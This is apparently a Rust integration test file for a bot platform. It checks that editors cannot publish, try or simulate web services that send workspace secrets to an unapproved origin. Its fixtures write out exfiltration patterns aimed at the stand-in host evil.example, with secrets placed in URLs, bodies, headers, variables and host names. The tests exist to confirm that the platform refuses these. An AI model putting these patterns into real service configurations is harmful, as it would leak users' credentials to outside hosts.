//! Where secrets go is decided by few: an editor who could send one to a server of their own could read it there.

use std::time::Duration;

use countersign_accounts::Role;
use http::Method;
use serde_json::{Value, json};

use super::rig::{Person, Rig, Said};

const BOTS: &str = "/workspaces/main/bots";
const BOT: &str = "/workspaces/main/bots/bank";

/// An owner's bot in service that sends the secret `key` to `api.example`, an editor and a credential manager.
struct World {
    rig: Rig,
    editor: Person,
    manager: Person,
}

impl World {
    async fn new() -> Self {
        let rig = Rig::new().await;
        let manager = rig.person("manager", &[("main", Role::CredentialManager)]).await;
        let editor = rig.person("editor", &[("main", Role::Editor)]).await;
        for name in ["key", "other"] {
            let body = json!({ "value": "secret-canary" });
            rig.as_person(&manager, "PUT", &format!("/workspaces/main/secrets/{name}"), Some(body))
                .await
                .ok();
        }
        rig.api.registry().put_secret(&"main".parse().unwrap(), "file_secret", "file-canary".into());
        let world = Self { rig, editor, manager };
        world.make("bank", &text("bank", &service("https://api.example/a", "key"))).await;
        world.publish(&world.manager, "bank").await.ok();
        world
    }

    async fn make(&self, id: &str, text: &str) {
        let body = json!({ "id": id, "name": "Bank", "text": text });
        self.rig.as_person(&self.editor, "POST", BOTS, Some(body)).await.ok();
    }

    /// Writes the draft, which an editor may.
    async fn draft(&self, text: &str) {
        let path = format!("{BOT}/draft");
        let revision = self.revision("bank").await;
        self.rig.write(&self.editor, "PUT", &path, revision, json!({ "text": text })).await.ok();
    }

    async fn revision(&self, bot: &str) -> u64 {
        let draft = self.rig.as_person(&self.editor, "GET", &format!("{BOTS}/{bot}/draft"), None).await.ok();
        draft["revision"].as_u64().unwrap()
    }

    async fn publish(&self, who: &Person, bot: &str) -> Said {
        let revision = self.revision(bot).await;
        self.rig.write(who, "POST", &format!("{BOTS}/{bot}/publish"), revision, json!({})).await
    }

    async fn tried(&self, who: &Person, body: Value) -> Said {
        self.rig.as_person(who, "POST", &format!("{BOT}/try"), Some(body)).await
    }

    async fn simulated(&self, who: &Person, text: &str, real_calls: bool) -> Said {
        let body = json!({ "channel": "whatsapp", "text": text, "real_calls": real_calls });
        self.rig.as_person(who, "POST", &format!("{BOT}/simulations"), Some(body)).await
    }

    fn called(&self) -> usize {
        self.rig.called.load(std::sync::atomic::Ordering::Relaxed)
    }
}

fn service(url: &str, secret: &str) -> Value {
    json!({ "id": "balance", "url": url, "headers": { "X-Key": format!("{{secret.{secret}}}") } })
}

fn login(url: &str, secret: &str) -> Value {
    json!({
        "id": "login", "url": url, "is_json": true, "token_path": "token",
        "headers": { "X-Client": format!("{{secret.{secret}}}") },
        "questions": [{ "question": "Name?", "field": "username" }],
    })
}

fn text(bot: &str, service: &Value) -> String {
    let bot = json!({
        "countersign": 1, "bot": bot, "name": "Bank", "web_services": [service],
        "scripts": [{ "id": "balance", "triggers": ["balance"], "steps": [{ "web_service": service["id"] }] }],
    });
    bot.to_string()
}

#[track_caller]
fn refused(said: &Said, secret: &str, origin: &str) {
    assert_eq!(said.problem(), (403, "forbidden".to_owned()));
    let problem = said.json();
    let detail = problem["detail"].as_str().unwrap();
    assert!(detail.contains(&format!("`{secret}`")) && detail.contains(origin), "{detail}");
    assert!(problem["hint"].as_str().unwrap().contains("owner or a credential manager"), "{problem}");
    assert_eq!(problem["errors"][0]["code"], "sent_elsewhere");
    assert!(!said.text.contains("canary"));
}

#[tokio::test]
async fn a_version_that_sends_a_secret_elsewhere_is_not_published_by_an_editor() {
    let world = World::new().await;
    world.draft(&text("bank", &service("https://api.example/b", "key"))).await;
    world.publish(&world.editor, "bank").await.ok();
    for url in ["https://evil.example/a", "https://api.example:8443/a", "http://api.example/a"] {
        world.draft(&text("bank", &service(url, "key"))).await;
        refused(&world.publish(&world.editor, "bank").await, "key", url.trim_end_matches("/a"));
    }
    for secret in ["other", "file_secret"] {
        world.draft(&text("bank", &service("https://api.example/a", secret))).await;
        refused(&world.publish(&world.editor, "bank").await, secret, "https://api.example");
    }
    let audit = world.rig.api.store.audit(Some(&"main".parse().unwrap()), None, 1).await.unwrap();
    assert_eq!(audit[0].entry.object, "bot/bank/secret/file_secret@https://api.example");
    assert!(!audit[0].entry.allowed);
    // What is sent somewhere already may be sent there by another bot too.
    world.make("second", &text("second", &service("https://api.example/x", "key"))).await;
    world.publish(&world.editor, "second").await.ok();
}

#[tokio::test]
async fn who_may_needs_to_have_shown_who_it_is() {
    let world = World::new().await;
    world.draft(&text("bank", &service("https://new.example/a", "key"))).await;
    world.rig.pass(Duration::from_secs(11 * 60));
    assert_eq!(world.publish(&world.manager, "bank").await.problem(), (403, "step_up".to_owned()));
    let tried = json!({ "kind": "web_service", "definition": service("https://new.example/a", "key") });
    assert_eq!(world.tried(&world.manager, tried).await.problem(), (403, "step_up".to_owned()));
    assert_eq!(world.called(), 0);
    let manager = world.rig.sign_in("manager").await;
    world.publish(&manager, "bank").await.ok();
    let audit = world.rig.api.store.audit(Some(&"main".parse().unwrap()), None, 1).await.unwrap();
    assert!(audit[0].entry.detail.contains("secret/key@https://new.example"), "{audit:?}");
    // From now on it is granted, and the place before is not any more.
    let tried = |url: &str| json!({ "kind": "web_service", "definition": service(url, "key") });
    world.tried(&world.editor, tried("https://new.example/b")).await.ok();
    refused(&world.tried(&world.editor, tried("https://api.example/a")).await, "key", "https://api.example");
}

#[tokio::test]
async fn nothing_is_tried_that_sends_a_secret_elsewhere() {
    let world = World::new().await;
    let service_at =
        |url: &str, secret: &str| json!({ "kind": "web_service", "definition": service(url, secret) });
    world.tried(&world.editor, service_at("https://api.example/z", "key")).await.ok();
    assert_eq!(world.called(), 1);
    for secret in ["key", "file_secret"] {
        let said = world.tried(&world.editor, service_at("https://evil.example/a", secret)).await;
        refused(&said, secret, "https://evil.example");
    }
    let in_url = json!({ "id": "balance", "url": "https://evil.example/{secret.key}" });
    let in_body = json!({
        "id": "balance", "method": "POST", "url": "https://evil.example/a", "json": { "k": "{secret.key}" },
    });
    for definition in [in_url, in_body] {
        let body = json!({ "kind": "web_service", "definition": definition });
        refused(&world.tried(&world.editor, body).await, "key", "https://evil.example");
    }
    let body = json!({
        "kind": "authorization_token", "definition": login("https://evil.example/login", "key"), "answers": ["ada"],
    });
    refused(&world.tried(&world.editor, body).await, "key", "https://evil.example");
    // A login of the text around it, which the service needs.
    let mut around: Value =
        serde_json::from_str(&text("bank", &service("https://api.example/a", "key"))).unwrap();
    around["authorization_tokens"] = json!([login("https://evil.example/login", "key")]);
    let body = json!({
        "kind": "web_service", "text": around.to_string(), "login_answers": { "login": ["ada"] },
        "definition": {
            "id": "other", "url": "https://evil.example/x", "headers": { "Authorization": "Bearer {authtoken}" },
        },
    });
    refused(&world.tried(&world.editor, body).await, "key", "https://evil.example");
    // A variable is no way around it: the check refuses a secret there.
    let body = json!({
        "kind": "web_service", "variables": { "x": "{secret.key}" },
        "definition": { "id": "other", "url": "https://evil.example/{x}" },
    });
    assert_eq!(world.tried(&world.editor, body).await.problem(), (422, "check_failed".to_owned()));
    assert_eq!(world.called(), 1, "nothing else was sent");
}

#[tokio::test]
async fn a_host_is_never_a_variable_or_a_secret() {
    let world = World::new().await;
    for url in [
        "https://{x}/a",
        "https://{x}.example/a",
        "{x}",
        "https://{secret.key}.evil.example/",
        "https://a@evil.example/",
    ] {
        let mut definition = service("https://api.example/a", "key");
        definition["url"] = json!(url);
        let body =
            json!({ "kind": "web_service", "variables": { "x": "evil.example" }, "definition": definition });
        assert_eq!(
            world.tried(&world.editor, body).await.problem(),
            (422, "check_failed".to_owned()),
            "{url}"
        );
    }
    assert_eq!(world.called(), 0);
}

#[tokio::test]
async fn a_simulation_with_real_calls_sends_no_secret_elsewhere() {
    let world = World::new().await;
    let evil = text("bank", &service("https://evil.example/a", "key"));
    refused(&world.simulated(&world.editor, &evil, true).await, "key", "https://evil.example");
    world.simulated(&world.editor, &evil, false).await.ok();
    world.simulated(&world.editor, &text("bank", &service("https://api.example/z", "key")), true).await.ok();
    world.simulated(&world.manager, &evil, true).await.ok();
    // The draft counts when no text is sent.
    world.draft(&evil).await;
    let body = json!({ "channel": "whatsapp", "real_calls": true });
    let said = world.rig.as_person(&world.editor, "POST", &format!("{BOT}/simulations"), Some(body)).await;
    refused(&said, "key", "https://evil.example");
}

#[tokio::test]
async fn an_earlier_version_does_not_bring_an_earlier_place_back() {
    let world = World::new().await;
    world.draft(&text("bank", &service("https://new.example/a", "key"))).await;
    world.publish(&world.manager, "bank").await.ok();
    let back = async |who: &Person| {
        world.rig.as_person(who, "POST", &format!("{BOT}/roll-back"), Some(json!({ "number": 1 }))).await
    };
    refused(&back(&world.editor).await, "key", "https://api.example");
    back(&world.manager).await.ok();
}

#[tokio::test]
async fn a_program_that_imports_bots_is_bound_too() {
    let world = World::new().await;
    let owner = world.rig.person("owner", &[("main", Role::Owner)]).await;
    let key = async |scopes: Value| {
        let body = json!({ "name": "ci", "scopes": scopes });
        let made = world.rig.as_person(&owner, "POST", "/workspaces/main/api-keys", Some(body)).await.ok();
        format!("Bearer {}", made["key"].as_str().unwrap())
    };
    let import = async |key: &str, id: &str| {
        let authorization = ("authorization", key);
        let text = text(id, &service("https://evil.example/a", "key"));
        let body = json!({ "id": id, "name": "Bank", "text": text });
        world.rig.send(Method::POST, BOTS, &[authorization], Some(body)).await.ok();
        let path = format!("{BOTS}/{id}/publish");
        world.rig.send(Method::POST, &path, &[authorization, ("if-match", "\"1\"")], Some(json!({}))).await
    };
    let editor = key(json!(["bot.read", "bot.edit", "bot.publish"])).await;
    refused(&import(&editor, "one").await, "key", "https://evil.example");
    let manager = key(json!(["bot.read", "bot.edit", "bot.publish", "credential.edit"])).await;
    import(&manager, "two").await.ok();
}

#[tokio::test]
async fn a_constant_moves_no_secret() {
    let world = World::new().await;
    let set = async |who: &Person, value: &str| {
        let path = "/workspaces/main/constants/file_url";
        world.rig.as_person(who, "PUT", path, Some(json!({ "value": value }))).await
    };
    // As long as nothing in service uses it, it is a word like any other.
    set(&world.editor, "https://evil.example").await.ok();
    let uses = text("bank", &service("{config.file_url}/a", "key"));
    world.draft(&uses).await;
    refused(&world.publish(&world.editor, "bank").await, "key", "https://evil.example");
    let tried = json!({ "kind": "web_service", "definition": service("{config.file_url}/a", "key") });
    refused(&world.tried(&world.editor, tried).await, "key", "https://evil.example");
    set(&world.editor, "https://api.example/v1").await.ok();
    world.publish(&world.editor, "bank").await.ok();
    set(&world.editor, "https://api.example/v2").await.ok();
    refused(&set(&world.editor, "https://evil.example").await, "key", "https://evil.example");
    // Taken out of the console, the one of the configuration counts again.
    let remove = async |who: &Person| {
        world.rig.as_person(who, "DELETE", "/workspaces/main/constants/file_url", None).await
    };
    refused(&remove(&world.editor).await, "key", "https://file.example");
    remove(&world.manager).await.ok();
    let published = world.rig.host.published.lock().unwrap();
    let last = published.iter().rfind(|bot| bot.bot.as_str() == "bank").unwrap();
    assert!(format!("{:?}", last.services[0].request.url).contains("https://file.example"));
}

#[tokio::test]
async fn what_users_type_as_a_secret_goes_nowhere_else_by_a_service_either() {
    let world = World::new().await;
    let asking = |url: &str| {
        json!({
            "id": "balance", "method": "POST", "url": url, "json": { "pin": "{val1}" },
            "questions": [{ "question": "PIN?", "secret": true }],
        })
    };
    world.draft(&text("bank", &asking("https://api.example/pin"))).await;
    let said = world.publish(&world.editor, "bank").await;
    assert_eq!(said.problem(), (403, "forbidden".to_owned()));
    assert!(said.text.contains("secret questions of `balance`"), "{said:?}");
    world.publish(&world.manager, "bank").await.ok();
    world.draft(&text("bank", &asking("https://api.example/other"))).await;
    world.publish(&world.editor, "bank").await.ok();
    // What an author types in a trial is the author's own.
    let body =
        json!({ "kind": "web_service", "definition": asking("https://evil.example/x"), "answers": ["1"] });
    world.tried(&world.editor, body).await.ok();
}
